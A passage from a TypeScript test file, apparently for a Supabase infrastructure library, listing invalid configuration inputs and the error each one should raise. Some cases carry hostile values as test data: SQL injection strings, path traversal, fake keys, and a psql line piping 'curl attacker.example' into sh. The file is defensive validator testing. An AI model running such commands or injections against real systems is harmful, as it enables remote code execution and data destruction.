import * as path from 'path';
import { App, TerraformVariable } from 'cdktf';
import { BadInput, production, staging } from './support';
import {
  DatabaseConnectionMode, DatabaseRoleKind, Environment, EnvironmentStack, PolicyCommand, RowLevelSecurity, RowLevelSecurityPolicy, SecretValue, SignUpPolicy,
  SqlMigration, SqlMigrationProps, SupabaseDatabase, SupabaseDatabaseProps, SupabaseEdgeFunctions, SupabaseInstanceSize, SupabaseRegion,
} from '../../lib';

const TENANT = RowLevelSecurity.ownRowsOnly({ table: 'campaigns', ownerColumn: 'seller_id', roles: ['authenticated'] });
const AUTH = { siteUrl: 'https://app.example.com' };
const CIDRS = ['198.51.100.0/24'];

/** A staging (or production) database with valid defaults and `props` on top; `auth` merged. */
const db = (props: any, prod = false): BadInput[1] => (app: App) => new SupabaseDatabase(prod ? production(app) : staging(app), 'Database', {
  allowedCidrs: CIDRS, ...props, auth: props.auth === null ? undefined : { ...AUTH, ...props.auth },
} as SupabaseDatabaseProps);
const policy = (p: Partial<RowLevelSecurityPolicy> | any): BadInput[1] => db({ rowLevelSecurity: [{ ...TENANT, ...p }] });
const cidrs = (list: unknown): BadInput[1] => db({ allowedCidrs: list });
const migration = (props: Partial<SqlMigrationProps> | any): BadInput[1] => (app) => new SqlMigration(staging(app), 'Migration', { sql: 'SELECT 1;', fileName: 'm.sql', apply: false, ...props });
const P = '[staging/Database] invalid';
const SQL_EXPRESSION = 'expected one SQL expression, as PostgreSQL\'s parser reads it';
const NOT_WIDE = 'set unsafeAllowAllIps: true (and, in production, list it in acknowledgeUnsafeInProduction) to open the database to every address deliberately';
const SHARED = (domain: string, url: string) => `${P} "auth.redirectUrls[0]": got "${url}"; expected an https:// URL without a wildcard under "${domain}": anyone can get a subdomain there`;

export const SUPABASE_BAD_INPUTS: BadInput[] = [
  // --- wrong types from JavaScript or JSON ---
  ['supabase: unsafeAllowAllIps as the string "false"', db({ unsafeAllowAllIps: 'false' }), `${P} "unsafeAllowAllIps": got "false"; expected true or false (a boolean, not a string)`],
  ['supabase: preventDestroy as the string "true"', db({ preventDestroy: 'true' }), `${P} "preventDestroy": got "true"; expected true or false (a boolean, not a string)`],
  ['supabase: acknowledgeUnsafeInProduction as a boolean (the old API)', db({ unsafeAllowAllIps: true, acknowledgeUnsafeInProduction: true }, true), '[production/Database] invalid "acknowledgeUnsafeInProduction": got true; expected a list'],
  ['supabase: allowedCidrs as a string', cidrs('198.51.100.0/24'), `${P} "allowedCidrs": got "198.51.100.0/24"; expected a list`],
  ['supabase: schemas as a string', db({ schemas: 'public' }), `${P} "schemas": got "public"; expected a list`],
  ['supabase: databasePassword as { value }', db({ databasePassword: { value: 'hunter2hunter2hunter2' } }), `${P} "databasePassword": got "<non-SecretValue redacted>"; expected a SecretValue`],
  ['supabase: databasePassword as a string', db({ databasePassword: 'hunter2hunter2hunter2' }), `${P} "databasePassword": got "<string redacted>"; expected a SecretValue`],
  ['supabase: passwordLength NaN', db({ passwordLength: NaN }), `${P} "passwordLength": got NaN; expected a whole number from 16 to 128`],
  ['supabase: passwordLength Infinity', db({ passwordLength: Infinity }), `${P} "passwordLength": got Infinity; expected a whole number from 16 to 128`],
  ['supabase: region as a string', db({ region: 'us-east-1' }), `${P} "region": got "us-east-1"; expected a SupabaseRegion: SupabaseRegion.US_EAST_1, SupabaseRegion.EU_CENTRAL_1, ... or SupabaseRegion.of("<code>")`],
  ['supabase: instanceSize as a string', db({ instanceSize: 'small' }), `${P} "instanceSize": got "small"; expected a SupabaseInstanceSize: SupabaseInstanceSize.MICRO, SupabaseInstanceSize.SMALL, ... or SupabaseInstanceSize.of("<name>")`],
  ['supabase: a region code that is not one', () => SupabaseRegion.of('Frankfurt'), '[SupabaseRegion.of] invalid "code": got "Frankfurt"; expected a region code such as "us-east-1"'],
  ['supabase: auth.siteUrl as an object', db({ auth: { siteUrl: {} } }), `${P} "auth.siteUrl": got {}; expected an https:// URL without wildcards, no commas or spaces, or http://localhost[:port] outside production`],
  ['supabase: no auth at all', db({ auth: null }), `${P} "auth": got undefined; expected Auth settings with at least "siteUrl"`],
  ['supabase: a role connection limit as a string', db({ applicationRole: { connectionLimit: '20' } }), `${P} "applicationRole.connectionLimit": got "20"; expected a whole number from 1 to 1000`],
  ['supabase: rowLevelSecurity as an object', db({ rowLevelSecurity: TENANT }), `${P} "rowLevelSecurity": got {`],
  ['supabase: a policy command as a string', policy({ command: 'ALL' }), `${P} "rowLevelSecurity[0].command": got "ALL"; expected a PolicyCommand: PolicyCommand.ALL, PolicyCommand.SELECT, PolicyCommand.INSERT, PolicyCommand.UPDATE or PolicyCommand.DELETE`],
  ['supabase: a policy roles list as a string', policy({ roles: 'authenticated' }), `${P} "rowLevelSecurity[0].roles": got "authenticated"; expected a list`],
  ['supabase: api.maxRows of 1.5', db({ api: { maxRows: 1.5 } }), `${P} "api.maxRows": got 1.5; expected a whole number from 1 to 1000000`],
  ['supabase: environment that is not an Environment', db({ environment: { name: 'staging', project: 'acme' } }), `${P} "environment": got {"name":"staging","project":"acme"}; expected an Environment`],
  // --- unknown props (typos in JSON configuration) ---
  ['supabase: a misspelt prop', db({ allowedCIDRs: ['0.0.0.0/0'] }), `${P} "allowedCIDRs": got ["0.0.0.0/0"]; expected no such property`],
  ['supabase: a misspelt nested prop', db({ auth: { redirectURLs: ['https://x.example.com'] } }), `${P} "auth.redirectURLs": got ["https://x.example.com"]; expected no such property`],
  ['supabase: a misspelt role prop', db({ analyticsRole: { connectionLimits: 5 } }), `${P} "analyticsRole.connectionLimits": got 5; expected no such property`],
  // --- out of range ---
  ['supabase: passwordLength 129', db({ passwordLength: 129 }), `${P} "passwordLength": got 129; expected a whole number from 16 to 128`],
  ['supabase: a JWT expiry of a minute', db({ auth: { jwtExpirySeconds: 60 } }), `${P} "auth.jwtExpirySeconds": got 60; expected a whole number from 300 to 604800`],
  ['supabase: a negative role statement timeout', db({ migrationRole: { statementTimeoutSeconds: -1 } }), `${P} "migrationRole.statementTimeoutSeconds": got -1; expected a whole number from 0 to 86400`],
  ['supabase: an environment region Supabase does not offer', (app) => new SupabaseDatabase(new EnvironmentStack(app, 'bahrain', { environment: Environment.production({ project: 'acme', region: 'me-south-1' }) }), 'Database', { auth: AUTH, allowedCidrs: CIDRS }),
    '[bahrain/Database] invalid "region": got "me-south-1"; expected a Supabase region: the environment\'s region is not one Supabase offers (us-east-1, us-east-2, us-west-1, us-west-2, ca-central-1, sa-east-1, eu-central-1, eu-central-2, eu-north-1, eu-west-1, eu-west-2, eu-west-3, ap-east-1, ap-northeast-1, ap-northeast-2, ap-south-1, ap-southeast-1, ap-southeast-2); set "region", for example SupabaseRegion.US_EAST_1, or SupabaseRegion.of("<code>") for a region newer than this library'],
  // --- literal secrets by value ---
  ['supabase: a token in a redirect URL', db({ auth: { redirectUrls: [`https://app.example.com/cb?key=sk-proj-${'a'.repeat(30)}`] } }), `${P} "auth.redirectUrls[0]": got "<URL redacted>"; expected a URL without a credential in it (it contains an OpenAI-style API key (sk-...))`],
  ['supabase: a pooler host with a password in it', db({ poolerHost: 'postgres://postgres:hunter2@pooler.supabase.com' }), `${P} "poolerHost": got "<literal redacted>"; expected a lowercase hostname such as "aws-0-us-east-1.pooler.supabase.com", not a credential (it looks like a URL with a password)`],
  ['supabase: a JWT in migration SQL', migration({ sql: 'SELECT set_config(\'request.jwt\', \'eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0NTY3.c2lnbmF0dXJlc2ln\', false);' }), '[staging/Migration] invalid "sql": got "<SQL redacted>"; expected SQL without literal credentials (it contains a JSON Web Token)'],
  ['supabase: a secret-named migration trigger', migration({ triggers: { db_password: 'x' } }), '[staging/Migration] invalid "triggers.db_password": got "<literal string redacted>"; expected a SecretValue'],
  // --- exposure, judged by address space ---
  ['supabase: the whole IPv4 internet', cidrs(['0.0.0.0/0']), `${P} "allowedCidrs[0]": got "0.0.0.0/0"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set; "0.0.0.0/0" opens the database to the whole internet (${NOT_WIDE})`],
  ['supabase: half of IPv4 (0.0.0.0/1)', cidrs(['0.0.0.0/1']), `${P} "allowedCidrs[0]": got "0.0.0.0/1"; expected a block that is not internet-wide: it covers 56.5% of the public IPv4 space, above 1/4096 of it (about a /12); ${NOT_WIDE}`],
  ['supabase: a quarter of IPv4 (64.0.0.0/2)', cidrs(['64.0.0.0/2']), `${P} "allowedCidrs[0]": got "64.0.0.0/2"; expected a block that is not internet-wide: it covers 28.4% of the public IPv4 space`],
  ['supabase: a public /8', cidrs(['34.0.0.0/8']), `${P} "allowedCidrs[0]": got "34.0.0.0/8"; expected a block that is not internet-wide: it covers 0.45% of the public IPv4 space`],
  ['supabase: two /13s that together are internet-wide', cidrs(['34.0.0.0/13', '35.0.0.0/13']), `${P} "allowedCidrs": got ["34.0.0.0/13","35.0.0.0/13"]; expected blocks that together stay below 1/4096 of it (about a /12): the IPv4 blocks cover 0.028% of the public IPv4 space; ${NOT_WIDE}`],
  ['supabase: IPv6 global unicast (2000::/3)', cidrs(['2000::/3']), `${P} "allowedCidrs[0]": got "2000::/3"; expected a block that is not internet-wide: it covers 100.0% of the public IPv6 space, above 2^-20 of it (a /23)`],
  ['supabase: IPv6 2001::/16', cidrs(['2001::/16']), `${P} "allowedCidrs[0]": got "2001::/16"; expected a block that is not internet-wide`],
  ['supabase: every IPv6 address', cidrs(['::/0']), `${P} "allowedCidrs[0]": got "::/0"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set; "::/0" opens the database to the whole internet`],
  ['supabase: a private block', cidrs(['10.0.0.0/8']), `${P} "allowedCidrs[0]": got "10.0.0.0/8"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set: Supabase network restrictions apply to public addresses, private and loopback ranges are rejected`],
  ['supabase: an IPv6 unique-local block', cidrs(['fd00::/8']), `${P} "allowedCidrs[0]": got "fd00::/8"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set: Supabase network restrictions apply to public addresses`],
  ['supabase: a CIDR with host bits', cidrs(['198.51.100.7/24']), `${P} "allowedCidrs[0]": got "198.51.100.7/24"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set`],
  ['supabase: the same CIDR twice', cidrs(['198.51.100.0/24', '198.51.100.0/24']), `${P} "allowedCidrs[1]": got "198.51.100.0/24"; expected a value not already in the list`],
  ['supabase: unsafeAllowAllIps in production without acknowledgement', db({ unsafeAllowAllIps: true, allowedCidrs: undefined }, true),
    '[production/Database] invalid "unsafeAllowAllIps": got true; expected false in production ("production"), or "unsafeAllowAllIps" listed in "acknowledgeUnsafeInProduction": a database reachable from any address on the internet'],
  ['supabase: unsafeAllowAllIps acknowledged under another name', db({ unsafeAllowAllIps: true, allowedCidrs: undefined, acknowledgeUnsafeInProduction: ['unsafePublicRead'] }, true),
    '[production/Database] invalid "unsafeAllowAllIps": got true; expected false in production ("production"), or "unsafeAllowAllIps" listed in "acknowledgeUnsafeInProduction"'],
  ['supabase: unsafeAllowAllIps next to an allow-list', db({ unsafeAllowAllIps: true }), `${P} "allowedCidrs": got ["198.51.100.0/24"]; expected no allowedCidrs with unsafeAllowAllIps: true (which allows every address): remove one of them`],
  ['supabase: a redirect wildcard on *.vercel.app', db({ auth: { redirectUrls: ['https://*.vercel.app/**'] } }), SHARED('vercel.app', 'https://*.vercel.app/**')],
  ['supabase: a redirect wildcard on *.github.io', db({ auth: { redirectUrls: ['https://*.github.io/**'] } }), SHARED('github.io', 'https://*.github.io/**')],
  ['supabase: a redirect wildcard on *.supabase.co', db({ auth: { redirectUrls: ['https://*.supabase.co/auth/v1/callback'] } }), SHARED('supabase.co', 'https://*.supabase.co/auth/v1/callback')],
  ['supabase: a redirect wildcard on *.up.railway.app', db({ auth: { redirectUrls: ['https://*.up.railway.app'] } }), SHARED('up.railway.app', 'https://*.up.railway.app')],
  ['supabase: exposing the vault schema through the Data API', db({ api: { exposedSchemas: ['public', 'vault'] } }), `${P} "api.exposedSchemas[1]": got "vault"; expected an application schema: the Data API would expose a schema that PostgreSQL or Supabase manages`],
  // --- collisions ---
  ['supabase: two databases with one project name', (app) => {
    const s = staging(app);
    new SupabaseDatabase(s, 'Orders', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
    new SupabaseDatabase(s, 'Catalog', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
  }, '[staging/Orders] invalid "projectName": got "acme-shop"; expected a Supabase project name used by one database of the app only: staging/Catalog creates a project "acme-shop" too (set "projectName" on one of them)'],
  ['supabase: two stacks creating one project name', (app) => {
    new SupabaseDatabase(staging(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
    new SupabaseDatabase(production(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
  }, 'invalid "projectName": got "acme-shop"; expected a Supabase project name used by one database of the app only: '],
  ['supabase: two roles with one name', db({ applicationRole: { name: 'shop' }, analyticsRole: { name: 'shop' } }),
    `${P} "analyticsRole.name": got "shop"; expected a name of one role only: staging/Database/ApplicationRole ("applicationRole.name") and staging/Database/AnalyticsRole ("analyticsRole.name") would both be "shop"`],
  ['supabase: a role named like one of Supabase\'s', db({ migrationRole: { name: 'authenticator' } }), `${P} "migrationRole.name": got "authenticator"; expected a role name Supabase does not already use`],
  ['supabase: two policies with one name on one table', db({ rowLevelSecurity: [TENANT, { ...TENANT, command: PolicyCommand.SELECT, withCheck: undefined }] }),
    `${P} "rowLevelSecurity[1].name": got "campaigns_own_rows"; expected a policy name unique per table: rowLevelSecurity[0] already names a policy "campaigns_own_rows" on "public"."campaigns"`],
  // --- injection ---
  ['supabase: SQL injection through a role name', db({ applicationRole: { name: 'app"; DROP ROLE postgres; --' } }), `${P} "applicationRole.name": got "app\\"; DROP ROLE postgres; --"; expected a lowercase SQL identifier`],
  ['supabase: SQL injection through a table name', policy({ table: 'campaigns; DROP TABLE users' }), `${P} "rowLevelSecurity[0].table": got "campaigns; DROP TABLE users"; expected "table" or "schema.table"`],
  ['supabase: a USING expression that ends the statement', policy({ using: 'true); DROP TABLE users; --' }),
    `${P} "rowLevelSecurity[0].using": got "true); DROP TABLE users; --"; ${SQL_EXPRESSION} (the text ends the statement it is placed in and starts another: SQL injection)`],
  ['supabase: a WITH CHECK expression that smuggles a FROM clause', policy({ withCheck: 'true) FROM pg_authid WHERE (true' }),
    `${P} "rowLevelSecurity[0].withCheck": got "true) FROM pg_authid WHERE (true"; ${SQL_EXPRESSION} (the text closes the parentheses around it and adds a FROM clause)`],
  ['supabase: a USING expression with an open dollar quote', policy({ using: 'x$q$) ; ROLLBACK; CREATE TABLE pwned (); SELECT ($q$' }), `${P} "rowLevelSecurity[0].using": got "x$q$) ; ROLLBACK; CREATE TABLE pwned (); SELECT ($q$"; ${SQL_EXPRESSION} (PostgreSQL reports: unterminated dollar-quoted string`],
  ['supabase: an owner id of "auth.uid() OR true"', () => RowLevelSecurity.ownRowsOnly({ table: 'campaigns', ownerColumn: 'seller_id', roles: ['authenticated'], ownerId: '(select auth.uid()) OR true' }),
    '[RowLevelSecurity.ownRowsOnly] invalid "ownerId": got "(select auth.uid()) OR true"; expected the current owner\'s id as one SQL value, such as "(select auth.uid())" (this is an OR condition, not a value: the policy compares "seller_id" with the whole of it)'],
  ['supabase: a policy command outside PostgreSQL\'s', policy({ command: 'MERGE' }), `${P} "rowLevelSecurity[0].command": got "MERGE"; expected a PolicyCommand`],
  ['supabase: a psql meta-command in migration SQL', migration({ sql: 'SELECT 1;\n\\! curl attacker.example | sh' }), '[staging/Migration] invalid "sql": got "SELECT 1;\\n\\\\! curl attacker.example | sh"; expected SQL that PostgreSQL can parse (it reports: syntax error at or near "\\", on line 2)'],
  ['supabase: a COMMIT in the middle of migration SQL', migration({ sql: 'BEGIN; SELECT 1; COMMIT; DROP TABLE orders;' }), '[staging/Migration] invalid "sql": got "BEGIN; SELECT 1; COMMIT; DROP TABLE orders;"; expected SQL without transaction control'],
  ['supabase: a migration file name that climbs out of its folder', migration({ fileName: '../../etc/cron.sql' }), '[staging/Migration] invalid "fileName": got "../../etc/cron.sql"; expected a file name of letters, digits, ".", "_" or "-" ending in ".sql"'],
  ['supabase: a migration connection without a SecretValue', (app) => {
    const s = staging(app);
    new SqlMigration(s, 'Migration', { sql: 'SELECT 1;', fileName: 'm.sql', connection: { host: 'db', port: 5432, database: 'postgres', username: 'u', password: { value: 'x' } as any, sslMode: 'require', uri: SecretValue.fromVariable(s, 'uri') } });
  }, '[staging/Migration] invalid "connection.password": got "<non-SecretValue redacted>"; expected a SecretValue'],
  ...PRD_BAD_INPUTS(),
];

// --- issue 16: Edge Functions, the connection budget, tenant secrets, development databases ---
function PRD_BAD_INPUTS(): BadInput[] {
  const FIXTURES = path.join(__dirname, '..', 'supabase', 'fixtures', 'edge-functions');
  const HELLO = path.join(FIXTURES, 'hello', 'index.ts');
  const E = '[staging/EdgeFunctions] invalid';
  /** Edge Functions of a staging database: `props` replace the defaults; `functions` entries merge into hello's. */
  const edge = (props: any): BadInput[1] => (app: App) => {
    const s = staging(app);
    const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
    new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: HELLO } }, ...props });
  };
  const fn = (options: any): BadInput[1] => edge({ functions: { hello: options } });
  const PEAK = [
    { name: 'api', maxInstances: 10, connectionsPerInstance: 10 },
    { name: 'ai-worker', maxInstances: 10, connectionsPerInstance: 3 },
    { name: 'publishing-worker', maxInstances: 10, connectionsPerInstance: 3 },
  ];
  /** A production (Small) database with a pool size and these consumers. */
  const budget = (props: any): BadInput[1] => db({ pooler: { poolSize: 15 }, ...props }, true);
  const consumer = (c: any): BadInput[1] => budget({ connectionConsumers: [{ ...PEAK[0], ...c }] });
  const PD = '[production/Database] invalid';
  const vault = (settings: any, props: any = {}): BadInput[1] => db({ extensions: ['supabase_vault'], tenantSecrets: settings, ...props });
  const missing = path.join(FIXTURES, 'nope', 'index.ts');
  const RANGE = 'a whole number from 1 to 1000';
  const KNOWN = 'a whole number from 1 to 1000, known at synth (the budget is checked before anything is deployed)';
  const SOURCE = 'the path of a .ts, .js, .mjs, .tsx, .jsx file, absolute or relative to the working directory';
  return [
    // Edge Functions: files checked at synth
    ['supabase: an Edge Function whose entrypoint file is missing', fn({ entrypoint: missing }),
      `${E} "functions.hello.entrypoint": got ${JSON.stringify(missing)}; expected an existing file: ${missing} does not exist (relative paths are resolved from the working directory)`],
    ['supabase: an Edge Function entrypoint that is a directory', fn({ entrypoint: path.join(FIXTURES, 'hello.ts') }),
      `${E} "functions.hello.entrypoint": got ${JSON.stringify(path.join(FIXTURES, 'hello.ts'))}; expected an existing file: ${path.join(FIXTURES, 'hello.ts')} does not exist`],
    ['supabase: an Edge Function without an entrypoint', fn({}), `${E} "functions.hello.entrypoint": got undefined; expected ${SOURCE}`],
    ['supabase: an Edge Function entrypoint as a number', fn({ entrypoint: 42 }), `${E} "functions.hello.entrypoint": got 42; expected ${SOURCE}`],
    ['supabase: an Edge Function entrypoint in Python', fn({ entrypoint: 'functions/hello/main.py' }), `${E} "functions.hello.entrypoint": got "functions/hello/main.py"; expected ${SOURCE}`],
    ['supabase: an Edge Function entrypoint that is a Terraform reference', (app) => {
      const s = staging(app);
      const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
      new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: new TerraformVariable(s, 'path', { type: 'string' }).stringValue } } });
    }, `${E} "functions.hello.entrypoint": got "<unresolved token>"; expected ${SOURCE}, known at synth (the file is checked and copied into the stack)`],
    ['supabase: an Edge Function importing a sibling module the provider would not upload', fn({ entrypoint: path.join(FIXTURES, 'relative', 'index.js') }),
      `${E} "functions.hello.entrypoint": got ${JSON.stringify(path.join(FIXTURES, 'relative', 'index.js'))}; expected a self-contained entrypoint: it imports "./greet.js"`],
    ['supabase: an Edge Function source with a literal API key', fn({ entrypoint: path.join(FIXTURES, 'leaky', 'index.js') }),
      `${E} "functions.hello.entrypoint": got ${JSON.stringify(path.join(FIXTURES, 'leaky', 'index.js'))}; expected a source file without literal credentials (it contains an OpenAI-style API key (sk-...))`],
    ['supabase: an import map that is not JSON', fn({ entrypoint: HELLO, importMap: HELLO }), `${E} "functions.hello.importMap": got ${JSON.stringify(HELLO)}; expected the path of a .json file, absolute or relative to the working directory`],
    ['supabase: an import map with broken JSON', fn({ entrypoint: HELLO, importMap: path.join(FIXTURES, 'hello', 'broken_map.json') }),
      `${E} "functions.hello.importMap": got ${JSON.stringify(path.join(FIXTURES, 'hello', 'broken_map.json'))}; expected an import map in JSON (`],
    ['supabase: an Edge Function slug starting with a digit', edge({ functions: { '1hello': { entrypoint: HELLO } } }), `${E} "functions.1hello": got "1hello"; expected a function slug: a letter, then up to 99 letters, digits, "_" or "-"`],
    ['supabase: an Edge Function slug that climbs out of the URL path', edge({ functions: { 'hello/../admin': { entrypoint: HELLO } } }), `${E} "functions.hello/../admin": got "hello/../admin"; expected a function slug`],
    ['supabase: no Edge Functions at all', edge({ functions: {} }), `${E} "functions": got {}; expected a map of at least one slug to { entrypoint }`],
    ['supabase: Edge Functions as a list', edge({ functions: [{ entrypoint: HELLO }] }), `${E} "functions": got [{"entrypoint":${JSON.stringify(HELLO)}`],
    ['supabase: an Edge Function secret as a plain string', edge({ secrets: { SHIPPING_API_KEY: 'sk_live_1234567890abcdef' } }), `${E} "secrets.SHIPPING_API_KEY": got "<string redacted>"; expected a SecretValue`],
    ['supabase: an Edge Function secret as { value }', edge({ secrets: { SHIPPING_API_KEY: { value: 'x' } } }), `${E} "secrets.SHIPPING_API_KEY": got "<non-SecretValue redacted>"; expected a SecretValue`],
    ['supabase: an Edge Function secret named SUPABASE_*', (app) => {
      const s = staging(app);
      const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
      new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: HELLO } }, secrets: { SUPABASE_URL: SecretValue.fromVariable(s, 'url') } });
    }, `${E} "secrets.SUPABASE_URL": got "SUPABASE_URL"; expected a name that does not start with "SUPABASE_": Supabase reserves those and the API refuses them`],
    ['supabase: an Edge Function secret name with a dash', (app) => {
      const s = staging(app);
      const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
      new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: HELLO } }, secrets: { 'SHIPPING-KEY': SecretValue.fromVariable(s, 'k') } });
    }, `${E} "secrets.SHIPPING-KEY": got "SHIPPING-KEY"; expected a secret name: letters, digits and "_", not starting with a digit`],
    ['supabase: Edge Functions for something that is not a database', (app) => {
      new SupabaseEdgeFunctions(staging(app), 'EdgeFunctions', { database: { projectRef: 'abcdefghijklmnopqrst', apiUrl: 'https://x.supabase.co' } as any, functions: { hello: { entrypoint: HELLO } } });
    }, `${E} "database": got {"projectRef":"abcdefghijklmnopqrst","apiUrl":"https://x.supabase.co"}; expected an ISupabaseDatabase (a SupabaseDatabase, or SupabaseDatabase.fromDatabaseAttributes(...))`],
    ['supabase: a misspelt Edge Functions prop', edge({ secret: {} }), `${E} "secret": got {}; expected no such property`],
    ['supabase: a misspelt Edge Function prop', fn({ entrypoint: HELLO, entryPoint: 'x.ts' }), `${E} "functions.hello.entryPoint": got "x.ts"; expected no such property`],
    ['supabase: two constructs deploying one slug to one project', (app) => {
      const s = staging(app);
      const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
      new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: HELLO } } });
      new SupabaseEdgeFunctions(s, 'MoreFunctions', { database, functions: { hello: { entrypoint: HELLO } } });
    }, `${E} "functions.hello": got "hello"; expected a slug deployed by one construct per project: staging/MoreFunctions deploys "hello" to the same project too`],
    ['supabase: two constructs setting one Edge Function secret in one project', (app) => {
      const s = staging(app);
      const database = new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS });
      const key = SecretValue.fromVariable(s, 'shipping_api_key');
      new SupabaseEdgeFunctions(s, 'EdgeFunctions', { database, functions: { hello: { entrypoint: HELLO } }, secrets: { SHIPPING_API_KEY: key } });
      new SupabaseEdgeFunctions(s, 'MoreFunctions', { database, functions: { other: { entrypoint: HELLO } }, secrets: { SHIPPING_API_KEY: key } });
    }, `${E} "secrets.SHIPPING_API_KEY": got "SHIPPING_API_KEY"; expected a secret set by one construct per project: staging/MoreFunctions sets "SHIPPING_API_KEY" in the same project too (the last apply would win)`],
    // the connection budget
    ['supabase: a pool that does not fit the pooler\'s clients', budget({ connectionConsumers: [{ ...PEAK[0], connectionsPerInstance: 35 }, PEAK[1], PEAK[2]] }),
      `${PD} "connectionConsumers": got 410; expected at most 400 clients of the shared pooler at once (the pooler's client limit of SupabaseInstanceSize "small") for api 10 × 35 = 350, ai-worker 10 × 3 = 30, publishing-worker 10 × 3 = 30: lower the consumers' maxInstances or connectionsPerInstance, or choose a larger instanceSize`],
    ['supabase: a role limit below the pool the services need', budget({ connectionConsumers: PEAK, applicationRole: { connectionLimit: 12 } }),
      `${PD} "applicationRole.connectionLimit": got 12; expected at least 15 connections for role "livestreamsell_app" at peak: the transaction pooler holds up to 15 (its pool size is 15) for api 10 × 10 = 100, ai-worker 10 × 3 = 30, publishing-worker 10 × 3 = 30.`],
    ['supabase: more session-pooler clients than the pool size', budget({ pooler: { poolSize: 4 }, migrationRole: { connectionLimit: 10 }, connectionConsumers: [{ name: 'migrations', maxInstances: 3, connectionsPerInstance: 2, mode: DatabaseConnectionMode.SESSION_POOLER, role: DatabaseRoleKind.MIGRATION }] }),
      `${PD} "connectionConsumers": got 6; expected at most 4 session-pooler clients of role "livestreamsell_migrator" at once (the pool size) for migrations 3 × 2 = 6`],
    ['supabase: direct clients beyond the instance\'s connections', budget({ instanceSize: SupabaseInstanceSize.MICRO, applicationRole: { connectionLimit: 200 }, connectionConsumers: [{ name: 'legacy', maxInstances: 7, connectionsPerInstance: 10, mode: DatabaseConnectionMode.DIRECT }] }),
      `${PD} "connectionConsumers": got 70; expected at most 60 backend connections at peak (the max connections of SupabaseInstanceSize "micro") for legacy 7 × 10 = 70`],
    ['supabase: pooled consumers without the pool size', db({ connectionConsumers: PEAK }),
      `${P} "pooler.poolSize": got undefined; expected the Supavisor pool size of the project (Database settings, Connection pooling), 1-1000: api, ai-worker, publishing-worker connect through the pooler`],
    ['supabase: a pooler block without its pool size', db({ pooler: {} }), `${P} "pooler.poolSize": got undefined; expected the Supavisor pool size of the project (Database settings, Connection pooling), 1-1000`],
    ['supabase: a pool size of 1.5', db({ pooler: { poolSize: 1.5 } }), `${P} "pooler.poolSize": got 1.5; expected a whole number from 1 to 1000`],
    ['supabase: a misspelt pooler prop', db({ pooler: { poolSize: 15, maxClients: 100 } }), `${P} "pooler.maxClients": got 100; expected no such property`],
    ['supabase: a consumer with NaN instances', consumer({ maxInstances: NaN }), `${PD} "connectionConsumers[0].maxInstances": got NaN; expected ${RANGE}`],
    ['supabase: a consumer with Infinity connections', consumer({ connectionsPerInstance: Infinity }), `${PD} "connectionConsumers[0].connectionsPerInstance": got Infinity; expected ${RANGE}`],
    ['supabase: a consumer with 0 connections', consumer({ connectionsPerInstance: 0 }), `${PD} "connectionConsumers[0].connectionsPerInstance": got 0; expected ${RANGE}`],
    ['supabase: a consumer with instances as a string', consumer({ maxInstances: '10' }), `${PD} "connectionConsumers[0].maxInstances": got "10"; expected ${RANGE}`],
    ['supabase: a consumer without instances', consumer({ maxInstances: undefined }), `${PD} "connectionConsumers[0].maxInstances": got undefined; expected ${KNOWN}`],
    ['supabase: a consumer whose instances are a Terraform reference', (app) => {
      const s = production(app);
      new SupabaseDatabase(s, 'Database', { auth: AUTH, allowedCidrs: CIDRS, pooler: { poolSize: 15 }, connectionConsumers: [{ name: 'api', maxInstances: new TerraformVariable(s, 'n', { type: 'number' }).numberValue, connectionsPerInstance: 5 }] });
    }, `${PD} "connectionConsumers[0].maxInstances": got "<unresolved token>"; expected ${KNOWN}`],
    ['supabase: a consumer mode as a string', consumer({ mode: 'transaction' }), `${PD} "connectionConsumers[0].mode": got "transaction"; expected a DatabaseConnectionMode: DatabaseConnectionMode.TRANSACTION_POOLER, DatabaseConnectionMode.SESSION_POOLER or DatabaseConnectionMode.DIRECT`],
    ['supabase: a consumer role as a string', consumer({ role: 'application' }), `${PD} "connectionConsumers[0].role": got "application"; expected a DatabaseRoleKind: DatabaseRoleKind.APPLICATION, DatabaseRoleKind.ANALYTICS or DatabaseRoleKind.MIGRATION`],
    ['supabase: a misspelt consumer prop', consumer({ maxInstance: 10 }), `${PD} "connectionConsumers[0].maxInstance": got 10; expected no such property`],
    ['supabase: a consumer name with SQL in it', consumer({ name: "api'; DROP ROLE x; --" }), `${PD} "connectionConsumers[0].name": got "api'; DROP ROLE x; --"; expected a name of 1-63 letters, digits, ".", "_" or "-" (the service, app or job)`],
    ['supabase: two consumers with one name', budget({ connectionConsumers: [PEAK[0], { ...PEAK[1], name: 'api' }] }),
      `${PD} "connectionConsumers[1].name": got "api"; expected a consumer name used once per database: connectionConsumers[0] is already named "api"`],
    ['supabase: consumers as an object', budget({ connectionConsumers: PEAK[0] }), `${PD} "connectionConsumers": got {"name":"api","maxInstances":10,"connectionsPerInstance":10}; expected a list`],
